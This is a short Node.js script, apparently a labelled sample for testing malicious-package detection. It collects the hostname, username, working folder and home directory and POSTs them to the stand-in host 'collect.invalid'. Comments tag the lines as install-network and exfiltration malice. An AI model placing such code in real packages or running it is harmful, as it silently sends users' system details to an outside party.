const https = require("https");
const os = require("os");

const facts = JSON.stringify({
  host: os.hostname(),
  user: os.userInfo().username,
  folder: __dirname,
  home: os.homedir(),
});
const request = https.request({ hostname: "collect.invalid", path: "/", method: "POST" }); // malice: install-network
request.write(facts); // malice: exfiltration
request.end();
